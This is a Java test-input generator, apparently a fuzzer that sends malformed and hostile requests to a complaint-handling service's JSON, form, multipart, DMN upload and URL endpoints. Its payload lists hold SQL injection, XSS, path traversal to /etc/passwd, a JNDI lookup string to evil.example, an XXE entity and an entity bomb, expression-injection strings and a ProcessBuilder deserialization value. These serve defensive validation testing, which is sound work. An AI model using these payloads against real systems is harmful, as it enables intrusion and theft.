    static final List<String> FORM_EXTRA_NAMES = List.of("x\u0000y", "\u0007", "\u001b[0m", "\u202eeman",
        "class.module.classLoader.DefaultAssertionStatus", "name[0]", "__proto__[admin]", "customer.id", "中文", "");
    static final List<String> EXTRA_VARIABLES = List.of("x-unknown", "__proto__", "$where", "category",
        "complaintReference", "handlerGroup", "severity", "duplicate", "中文", "");
    static final List<String> KEY_PREFIXES = List.of("' OR 1=1 --", "<script>alert(1)</script>", "../../etc/passwd",
        "%00%0d%0a", "${jndi:ldap://evil.example/a}", "*", "k".repeat(250));
    static final List<String> NOT_AN_OBJECT = List.of("", "null", "[]", "\"text\"", "42", "{", "}", "true");
    static final List<String> WRONG_CONTENT_TYPES = List.of("text/plain", "application/xml", FORM,
        "multipart/form-data; boundary=hostile", "application/json-patch+json", "");
    static final List<String> INVALID_TOKENS = List.of("NaN", "undefined", "'single'", "01", "+1", ".5", "True", "nul",
        "Infinity", "0x1F");
    static final List<byte[]> BAD_BYTES = List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xFE, (byte) 0xFF},
        new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0x80},
        new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
        new byte[] {(byte) 0xE2, (byte) 0x82});
    static final List<byte[]> FORM_BAD_BYTES = List.of(new byte[] {(byte) 0xFF}, "%FF%FE".getBytes(UTF_8),
        "%C3%28".getBytes(UTF_8), "%zz".getBytes(UTF_8), "%".getBytes(UTF_8), "%E2%82".getBytes(UTF_8));
    /** Deeper than any parser should follow (Jackson stops at 1 000). */
    static final String NESTED = "[".repeat(5_000) + "]".repeat(5_000);
    static final String LONE_SURROGATE = "\ud83d";

    private final Random random;

    Hostile(long seed) {
      random = new Random(seed);
    }

    boolean percent(int percent) {
      return random.nextInt(100) < percent;
    }

    int between(int min, int max) {
      return min + random.nextInt(max - min + 1);
    }

    <T> T pick(List<T> values) {
      return values.get(random.nextInt(values.size()));
    }

    @SafeVarargs
    private <T> T oneOf(Supplier<T>... choices) {
      return choices[random.nextInt(choices.length)].get();
    }

    /** Any hostile string, legal somewhere or nowhere. */
    String string() {
      return pick(pick(List.of(LEGAL_TEXT, NOT_AN_ENUM, BAD_EMAILS, BLANKS, BAD_TIMES)));
    }

    /** A date that is out of range, impossible or no date at all. */
    String date() {
      return pick(BAD_TIMES);
    }

    /** 10 001 to 100 000 characters: longer than any field allows, often longer than a body may be. */
    String huge() {
      String unit = pick(List.of("x", "é", "中", "🙂", "<script>"));
      return unit.repeat(between(10_001, 100_000) / unit.length() + 1);
    }

    /** Hostile text that is still legal: at most {@code max} characters, never blank. */
    String legalText(int max) {
      StringBuilder text = new StringBuilder(pick(LEGAL_TEXT));
      while (percent(40)) {
        String more = pick(LEGAL_TEXT);
        if (text.length() + 1 + more.length() > max) {
          break;
        }
        text.append(' ').append(more);
      }
      return text.toString();
    }

    /** Legal text for JSON, which also carries a lone surrogate (as an escape). */
    private String jsonText(int max) {
      return percent(10) ? LONE_SURROGATE + "x" : legalText(max);
    }

    private JsonNode scalar() {
      return this.<JsonNode>oneOf(() -> IntNode.valueOf(between(-5, 5)), () -> DoubleNode.valueOf(3.14),
          () -> BooleanNode.FALSE, () -> DecimalNode.valueOf(new BigDecimal("1E+400")));
    }

    /** JSON that is no text: objects, arrays, and nesting deeper than any parser should follow. */
    private Value structure() {
      return Value.raw(pick(List.of("{}", "{\"$ne\": null}", "[]", "[\"a\", \"b\"]", "[[[\"x\"]]]",
          "{\"__proto__\": {\"admin\": true}}", NESTED)));
    }

    String oldMonth() {
      return "%04d-%02d".formatted(between(1, 999), between(1, 12));
    }

    // --- JSON bodies

    /**
     * Mutates a copy of {@code valid}: legal mutations first, then (unless {@code legal}) at least one
     * breaking one, so that nothing later can make a broken input legal again.
     */
    JsonBody mutateJson(ObjectNode valid, List<Field> fields, boolean legal) {
      JsonBody body = new JsonBody(valid.deepCopy(), percent(50));
      for (int bends = legal ? between(1, 3) : between(0, 2); bends > 0; bends--) {
        if (percent(15)) {
          body.set(pick(EXTRA_NAMES), Value.of(extraValue()));
        } else {
          Field field = pick(fields);
          Value value = legalValue(field, body.node(field.path()));
          if (value != null) {
            body.set(field.path(), value);
          }
        }
      }
      if (!legal) {
        for (int breaks = between(1, 2); breaks > 0; breaks--) {
          if (percent(20)) {
            breakWhole(body, fields, true);
          } else {
            Field field = pickField(body, fields);
            body.set(field.path(), breakingValue(field));
          }
        }
      }
      return body;
    }

    private Field pickField(JsonBody body, List<Field> fields) {
      for (int attempt = 0; attempt < 10; attempt++) {
        Field field = pick(fields);
        if (body.has(field.path())) {
          return field;
        }
      }
      return fields.get(0);
    }

    /** The path of a field whose parent is there. */
    private String placeable(JsonBody body, List<Field> fields) {
      return pickField(body, fields).path();
    }

    /** A value the contract refuses for {@code field}. */
    Value breakingValue(Field field) {
      return switch (field.kind()) {
        case TEXT -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(BLANKS)), () -> Value.text(huge()),
            this::structure);
        case OPTIONAL_TEXT -> oneOf(() -> Value.text(huge()), this::structure);
        case ENUM -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(BLANKS)),
            () -> Value.text(pick(NOT_AN_ENUM)), this::structure);
        case EMAIL -> oneOf(() -> Value.text(pick(BAD_EMAILS)), () -> Value.text(huge()), this::structure);
        case AMOUNT -> oneOf(Value::missing, () -> Value.text(pick(BLANKS)), () -> Value.text(pick(BAD_AMOUNTS)),
            () -> Value.raw(pick(BAD_NUMBERS)), this::structure);
        case DECIMAL -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(BAD_DECIMALS)),
            () -> Value.raw(pick(BAD_NUMBERS)), this::structure);
        case CURRENCY -> oneOf(Value::missing, () -> Value.text(pick(BAD_CURRENCIES)), this::structure);
        case CNY -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(NOT_CNY)),
            () -> Value.of(IntNode.valueOf(156)), this::structure);
        case TIME -> oneOf(() -> Value.text(date()), () -> Value.of(IntNode.valueOf(1_700_000_000)), this::structure);
        case MONTH -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(BAD_MONTHS)),
            () -> Value.of(IntNode.valueOf(202_610)), this::structure);
        case TOKEN, KEY -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(BLANKS)),
            () -> Value.text(huge()), () -> Value.text(pick(LEGAL_TEXT)), () -> Value.of(IntNode.valueOf(42)),
            this::structure);
        case SCORE -> oneOf(Value::missing, Value::nothing,
            () -> Value.of(IntNode.valueOf(pick(List.of(0, 6, -1, Integer.MAX_VALUE)))),
            () -> Value.of(DoubleNode.valueOf(4.5)), () -> Value.text("4"),
            () -> Value.raw(pick(List.of("1e400", "NaN", "99999999999999999999", "4.0"))),
            () -> Value.of(BooleanNode.TRUE), this::structure);
        case OBJECT -> oneOf(Value::missing, Value::nothing, () -> Value.text(pick(LEGAL_TEXT)),
            () -> Value.of(IntNode.valueOf(1)), () -> Value.raw("[]"));
        case OPTIONAL_OBJECT -> oneOf(() -> Value.text("800.00"), () -> Value.of(IntNode.valueOf(800)),
            () -> Value.raw("[]"), () -> Value.raw("[{\"amount\": \"1.00\", \"currency\": \"CNY\"}]"));
      };
    }

    /** A hostile value that is still legal for {@code field}, or null when it has none. */
    Value legalValue(Field field, JsonNode current) {
      return switch (field.kind()) {
        case TEXT -> oneOf(() -> Value.text(jsonText(field.max())), () -> Value.of(scalar()));
        case OPTIONAL_TEXT -> oneOf(() -> Value.text(jsonText(field.max())), () -> Value.of(scalar()), Value::missing,
            Value::nothing);
        // enumerations are read stripped
        case ENUM -> current != null && current.isTextual() ? Value.text(" " + current.asText().strip() + "\t") : null;
        case EMAIL -> oneOf(() -> Value.text(pick(LEGAL_EMAILS)), Value::missing, Value::nothing);
        case AMOUNT -> Value.text(pick(ODD_AMOUNTS));
        case DECIMAL -> oneOf(() -> Value.text(pick(ODD_DECIMALS)),
            () -> Value.of(DecimalNode.valueOf(new BigDecimal("0.5"))), () -> Value.of(IntNode.valueOf(250)));
        case CURRENCY -> Value.text(pick(ODD_CURRENCIES));
        case TIME -> oneOf(() -> Value.text(pick(ODD_TIMES)), Value::missing, Value::nothing);
        case MONTH -> Value.text(percent(20) ? "0000-%02d".formatted(between(1, 12)) : oldMonth());
        case SCORE -> Value.of(IntNode.valueOf(between(1, 5)));
        case OPTIONAL_OBJECT -> oneOf(Value::missing, Value::nothing);
        case CNY, TOKEN, KEY, OBJECT -> null;
      };
    }

    private JsonNode extraValue() {
      return this.<JsonNode>oneOf(() -> TextNode.valueOf(legalText(40)), () -> IntNode.valueOf(1),
          () -> BooleanNode.TRUE, () -> JSON.createObjectNode().put("admin", true), NullNode::getInstance);
    }

    /** Breaks the body as a whole: cut off, bad bytes, invalid tokens, no object, too deep, another content type. */
    void breakWhole(JsonBody body, List<Field> fields, boolean contentTypes) {
      switch (random.nextInt(contentTypes ? 6 : 5)) {
        case 0 -> body.cut(random.nextDouble());
        case 1 -> body.badBytes(placeable(body, fields), pick(BAD_BYTES));
        case 2 -> body.set(placeable(body, fields), Value.raw(pick(INVALID_TOKENS)));
        case 3 -> body.replaceWhole(pick(NOT_AN_OBJECT));
        case 4 -> body.set(pick(EXTRA_NAMES), Value.raw(NESTED));
        default -> body.contentType(pick(WRONG_CONTENT_TYPES));
      }
    }

    String idempotencyKey(int n) {
      return oneOf(() -> "", () -> "k".repeat(between(256, 5_000)), () -> legalKey(n));
    }

    /** Printable ASCII only: Java's HTTP client refuses control characters in headers. */
    String legalKey(int n) {
      return pick(KEY_PREFIXES) + " " + n;
    }

    // --- Task_HandleComplaint over engine REST

    static ObjectNode variable(JsonNode value, String type) {
      ObjectNode variable = JSON.createObjectNode();
      variable.set("value", value);
      if (type != null) {
        variable.put("type", type);
      }
      return variable;
    }

    private static Value stringVariable(String value) {
      return Value.of(variable(TextNode.valueOf(value), "String"));
    }

    /**
     * Mutates a copy of a Tasklist submission as a REST client could: the first mutation breaks it
     * (missing, wrongly typed, unknown or misfitting values, a broken proposal, a broken body), later
     * ones may add variables of their own.
     */
    JsonBody mutateSubmission(ObjectNode valid, boolean legal) {
      JsonBody body = new JsonBody(valid.deepCopy(), percent(50));
      if (legal) {
        // hostile text, or longer than an engine text column (4 000) yet within the form's 10 000
        body.set("variables.resolution", stringVariable(percent(50) ? legalText(200) + " Replaced the vase."
            : "Replaced the vase. ".repeat(between(211, 526))));
        return body;
      }
      for (int m = 0, count = between(1, 3); m < count; m++) {
        switch (random.nextInt(m == 0 ? 7 : 8)) {
          case 0 -> body.set("variables." + pick(List.of("rootCause", "resolution", "serviceFailureAcknowledged")),
              Value.missing());
          case 1 -> {
            String name = pick(List.of("rootCause", "resolution", "serviceFailureAcknowledged", "compensationType"));
            body.set("variables." + name, wrongVariable(name));
          }
          case 2 -> body.set("variables." + pick(List.of("rootCause", "compensationType")),
              stringVariable(pick(NOT_AN_ENUM)));
          // the complaint is about DAMAGE: these causes do not apply
          case 3 -> body.set("variables.rootCause",
              stringVariable(pick(List.of("PROCESS_GAP", "SYSTEM_FAILURE", "CUSTOMER_MISUNDERSTANDING"))));
          case 4 -> body.set("variables.resolution",
              stringVariable(oneOf(() -> "Too short", () -> pick(BLANKS), this::huge)));
          case 5 -> brokenProposal(body);
          case 6 -> breakWhole(body, SUBMISSION_FIELDS, false);
          default -> body.set("variables." + pick(EXTRA_VARIABLES), oneOf(() -> stringVariable(pick(LEGAL_TEXT)),
              () -> Value.of(variable(IntNode.valueOf(7), "Integer"))));
        }
      }
      return body;
    }

    /** A value of the wrong type, declared or not; never one the listener would take for {@code name}. */
    private Value wrongVariable(String name) {
      List<Supplier<Value>> choices = new ArrayList<>(List.<Supplier<Value>>of(
          () -> Value.of(variable(IntNode.valueOf(3), "Integer")),
          () -> Value.of(variable(TextNode.valueOf("NaN"), "Double")),
          () -> Value.of(variable(TextNode.valueOf("2026-13-45T99:00:00"), "Date")),
          () -> Value.of(variable(TextNode.valueOf("{\"a\": [1, 2]}"), "Json")),
          () -> Value.of(variable(TextNode.valueOf("not-a-number"), "Long")),
          () -> Value.of(variable(TextNode.valueOf("x"), "Evil")),
          () -> Value.of(objectVariable()),
          () -> Value.of(variable(JSON.createObjectNode().put("$ne", ""), null)),
          () -> Value.of(variable(JSON.createArrayNode().add("STAFF_ERROR"), null)),
          () -> Value.raw("{\"value\": " + NESTED + "}"),
          () -> Value.raw("{\"value\": " + "9".repeat(1_500) + ", \"type\": \"Long\"}")));
      choices.add(name.equals("serviceFailureAcknowledged") ? () -> stringVariable("true")
          : () -> Value.of(variable(BooleanNode.TRUE, "Boolean")));
      if (!name.equals("compensationType")) {
        choices.add(() -> Value.of(variable(NullNode.getInstance(), "Null"))); // a missing type means NONE
      }
      return pick(choices).get();
    }

    /** A serialized object of a type no allow-list admits. */
    private static ObjectNode objectVariable() {
      ObjectNode variable = variable(TextNode.valueOf("{}"), "Object");
      variable.set("valueInfo", JSON.createObjectNode().put("objectTypeName", "java.lang.ProcessBuilder")
          .put("serializationDataFormat", "application/json"));
      return variable;
    }

    /** A compensation proposal with one of amount, currency or reason broken. */
    private void brokenProposal(JsonBody body) {
      body.set("variables.compensationType", stringVariable(pick(List.of("REFUND", "VOUCHER", "DISCOUNT"))));
      body.set("variables.compensationAmount", stringVariable("200.00"));
      body.set("variables.compensationCurrency", stringVariable("CNY"));
      body.set("variables.compensationReason", stringVariable("Pays for the broken vase."));
      switch (random.nextInt(3)) {
        case 0 -> body.set("variables.compensationAmount", oneOf(() -> stringVariable(pick(BAD_AMOUNTS)),
            () -> Value.of(variable(TextNode.valueOf("NaN"), "Double")),
            () -> Value.of(variable(DoubleNode.valueOf(200.0), "Double")),
            () -> Value.of(variable(TextNode.valueOf("-200"), "Long")), Value::missing));
        case 1 -> body.set("variables.compensationCurrency", stringVariable(pick(BAD_CURRENCIES)));
        default -> body.set("variables.compensationReason", stringVariable(oneOf(() -> "Too short", this::huge,
            () -> pick(BLANKS))));
      }
    }

    // --- the customer form

    /** As {@link #mutateJson}, for the form's text fields. */
    FormBody mutateForm(Map<String, String> valid, List<Field> fields, boolean legal) {
      FormBody form = new FormBody(valid);
      for (int bends = legal ? between(1, 3) : between(0, 2); bends > 0; bends--) {
        if (percent(20)) {
          form.extra(pick(FORM_EXTRA_NAMES), legalText(40));
        } else {
          Field field = pick(fields);
          form.set(field.path(), formLegal(field, form.value(field.path())));
        }
      }
      if (!legal) {
        if (percent(15)) {
          switch (random.nextInt(3)) {
            case 0 -> form.contentType(
                pick(List.of(JSON_TYPE, "text/plain", "multipart/form-data; boundary=hostile", "")));
            case 1 -> form.replaceWhole(pick(List.of("", "&&&===", "%%%", "name")));
            default -> form.replaceWhole(NESTED);
          }
        } else {
          Field field = pick(fields);
          form.set(field.path(), formBreaking(field));
        }
        if (percent(15)) {
          form.badBytes(pick(fields).path(), pick(FORM_BAD_BYTES));
        }
      }
      return form;
    }

    /** A form value the contract refuses; null leaves the field out. */
    String formBreaking(Field field) {
      return switch (field.kind()) {
        case TEXT -> oneOf(() -> null, () -> pick(BLANKS), this::huge);
        case ENUM -> oneOf(() -> null, () -> pick(BLANKS), () -> pick(NOT_AN_ENUM));
        case EMAIL -> oneOf(() -> pick(BAD_EMAILS), this::huge);
        case OPTIONAL_TEXT -> huge();
        case AMOUNT -> pick(BAD_AMOUNTS);
        // with an amount, a currency is required
        case CURRENCY -> oneOf(() -> null, () -> pick(BAD_CURRENCIES));
        case TIME -> date();
        case KEY -> oneOf(() -> " ", () -> "k".repeat(between(256, 5_000)));
        default -> throw new IllegalArgumentException("No form field: " + field);
      };
    }

    /** A hostile form value that is still legal; null leaves the field out. */
    String formLegal(Field field, String current) {
      return switch (field.kind()) {
        case TEXT -> legalText(field.max());
        case OPTIONAL_TEXT -> oneOf(() -> legalText(field.max()), () -> "");
        case ENUM -> " " + current + " ";
        case EMAIL -> pick(LEGAL_EMAILS);
        // never blank: without an amount a broken currency would go unnoticed
        case AMOUNT -> pick(ODD_AMOUNTS);
        case CURRENCY -> pick(ODD_CURRENCIES);
        case TIME -> oneOf(() -> pick(ODD_TIMES), () -> "");
        case KEY -> current + " " + pick(LEGAL_TEXT);
        default -> throw new IllegalArgumentException("No form field: " + field);
      };
    }

    // --- decision files

    /** A DMN file as an attacker would upload it: external entities, entity bombs, broken or foreign XML. */
    /** A multipart body broken the ways a client or an attacker breaks one: cut, unterminated, mislabelled. */
    byte[] brokenMultipart(String boundary, byte[] valid) {
      String text = new String(valid, UTF_8);
      String broken = switch (random.nextInt(8)) {
        case 0 -> text.substring(0, random.nextInt(text.length()));
        case 1 -> text.replace("--" + boundary + "--", "");
        case 2 -> text.replace(boundary, boundary + "x");
        case 3 -> text.replace("\r\n\r\n", "\r\n");
        case 4 -> text.replace("Content-Disposition: form-data; ", "Content-Disposition: ");
        case 5 -> "--" + boundary + "\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n" + "a".repeat(10_000);
        case 6 -> "--" + boundary + "\r\n" + "X-Header: " + "h".repeat(20_000) + "\r\n\r\nvalue\r\n--" + boundary + "--";
        default -> "--" + boundary + "\r\nContent-Disposition: form-data; name=\"decision\"; filename=\"\u0000.dmn\"\r\n"
            + "Content-Type: multipart/mixed; boundary=inner\r\n\r\n--inner\r\n";
      };
      return broken.getBytes(UTF_8);
    }

    String dmn(String valid) {
      return switch (random.nextInt(8)) {
        case 0 -> "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
            + valid.substring(valid.indexOf("<definitions")).replaceFirst("name=\"[^\"]*\"", "name=\"&x;\"");
        case 1 -> "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><d>&d;&d;&d;</d>";
        case 2 -> valid.substring(0, between(0, valid.length() - 1));
        case 3 -> valid.replace("&gt;= 3", pick(List.of("${dataSource.connection}", "#{7*7}", "T(java.lang.Runtime)",
            "<script>alert(1)</script>", "' OR 1=1 --")));
        case 4 -> huge();
        case 5 -> string();
        case 6 -> "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"/>";
        default -> valid.replace("ComplaintClassification", oneOf(this::string, () -> "../../etc/passwd"));
      };
    }

    // --- URLs

    /** A hostile path segment, ready for the URL: traversal as it is, anything else percent-encoded. */
    String pathSegment() {
      return percent(40) ? pick(TRAVERSALS)
          : segment(oneOf(this::string, this::urlHuge, () -> "CMP-9999-999999", () -> "cmp-2026-000001"));
    }

    String teamSegment() {
      return percent(40) ? pick(TRAVERSALS) : segment(oneOf(this::string, this::urlHuge, () -> "TEAM-BILLING",
          () -> "team-billing ", () -> "team_billing"));
    }

    String monthSegment() {
      return percent(30) ? pick(TRAVERSALS) : segment(pick(BAD_BUDGET_MONTHS));
    }

    /** Some fit in a request line, some do not (the container refuses those itself). */
    private String urlHuge() {
      return "A".repeat(pick(List.of(300, 3_000, 7_000, 20_000)));
    }

    String tokenQuery(String token) {
      return oneOf(() -> "", () -> "token=", () -> "token=" + encode(string()), () -> "token=" + encode(token + "x"),
          () -> "token=" + encode(token.toUpperCase()), () -> "token=" + encode(token) + "&token=" + encode(token),
          () -> "token=" + "A".repeat(pick(List.of(101, 5_000, 20_000))),
          () -> "token=" + pick(RAW_INVALID_ENCODINGS), () -> "TOKEN=" + encode(token));
    }

    String extraParameter() {
      return encode(pick(QUERY_EXTRA_NAMES)) + "=" + encode(legalText(40));
    }

    /** Filters and paging of the staff list: legal ones first, then (unless {@code legal}) a breaking one. */
    Query listQuery(boolean legal) {
      Query query = new Query(Map.of("size", "5"));
      List<String> parameters = List.of("status", "severity", "category", "team", "from", "to", "page", "size");
      for (int bends = between(0, 2); bends > 0; bends--) {
        String name = pick(parameters);
        query.set(name, switch (name) {
          case "status" -> oneOf(() -> pick(Arrays.asList(ComplaintStatus.values())).name(), () -> "");
          case "severity" -> oneOf(() -> pick(Arrays.asList(Severity.values())).name(), () -> "");
          case "category" -> oneOf(() -> pick(Arrays.asList(Category.values())).name(), () -> "");
          case "team" -> oneOf(() -> pick(HandlerGroups.ALL), () -> legalText(40));
          case "from", "to" -> pick(LEGAL_LIST_TIMES);
          case "page" -> pick(LEGAL_PAGES);
          default -> pick(LEGAL_SIZES);
        });
      }
      if (percent(15)) {
        query.set(pick(QUERY_EXTRA_NAMES), legalText(40));
      }
      if (!legal) {
        // the team is free text: nothing breaks it
        String name = pick(List.of("status", "severity", "category", "from", "to", "page", "size"));
        switch (name) {
          case "status", "severity", "category" -> {
            if (percent(25)) {
              query.twice(name, "CLOSED", "LOW");
            } else {
              query.set(name, pick(NOT_AN_ENUM));
            }
          }
          case "from", "to" -> query.set(name, oneOf(() -> pick(BAD_LIST_TIMES), this::urlHuge));
          case "page" -> query.set(name, pick(BAD_PAGES));
          default -> query.set(name, pick(BAD_SIZES));
        }
      }
      return query;
    }

    /** A period for the KPI report: a legal one with hostile extras, or one broken. */
    Query kpiQuery(boolean legal) {
      Map<String, String> period = new LinkedHashMap<>();
      period.put("from", "2026-10-01");
      period.put("to", "2026-10-31");
      Query query = new Query(period);
      if (legal) {
        String[] legalPeriod = pick(LEGAL_PERIODS);
        query.set("from", legalPeriod[0]);
        query.set("to", legalPeriod[1]);
        if (percent(50)) {
          query.set(pick(QUERY_EXTRA_NAMES), legalText(40));
        }
        return query;
      }
      String end = pick(List.of("from", "to"));
      switch (random.nextInt(6)) {
        case 0 -> query.set(end, pick(BAD_DAYS));
        case 1 -> query.leaveOut(end);
        case 2 -> {
          query.set("from", "2026-10-31");
          query.set("to", "2026-10-01");
        }
        case 3 -> {
          query.set("from", "2024-01-01");
          query.set("to", "2026-01-01");
        }
        case 4 -> query.twice(end, "2026-10-01", "2026-10-02");
        default -> query.raw(end, pick(RAW_INVALID_ENCODINGS));
      }
      return query;
    }

    /** Percent-encodes everything but unreserved characters, as a path segment needs. */
    static String segment(String text) {
      StringBuilder out = new StringBuilder();
      for (byte b : text.getBytes(UTF_8)) {
        char c = (char) (b & 0xFF);
        boolean unreserved = c < 0x80 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0);
        out.append(unreserved ? String.valueOf(c) : "%%%02X".formatted(b & 0xFF));
      }
      return out.toString();
    }
  }
}
